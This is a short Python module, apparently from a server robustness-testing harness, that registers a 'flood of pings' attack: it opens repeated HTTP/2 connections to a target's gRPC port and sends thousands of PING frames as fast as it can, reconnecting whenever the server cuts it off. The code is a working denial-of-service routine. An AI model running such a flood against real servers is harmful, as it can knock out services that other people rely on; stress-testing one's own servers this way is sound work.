"""Pings on the gRPC port that nobody asked for."""

from __future__ import annotations

import time

from attack import MIB, Attack, Target
from talk import PING, PREFACE, SETTINGS, frame, stranger

SECONDS, QUICK_SECONDS = 6.0, 2.0
PINGS = frame(PING, 0, 0, b"pingpong") * 2000


async def attack(target: Target) -> str:
    """Pings as fast as it can, and connects anew when the server has had enough."""
    end = time.monotonic() + (QUICK_SECONDS if target.quick else SECONDS)
    sent = 0
    while time.monotonic() < end:
        try:
            async with stranger(target.grpc_port) as client:
                await client.send(PREFACE + frame(SETTINGS, 0, 0, b""))
                while time.monotonic() < end and await client.send(PINGS):
                    sent += len(PINGS)
        except OSError:
            continue
    return f"{sent / MIB:.0f} MiB of pings"


ATTACKS = [Attack("a flood of pings", attack)]
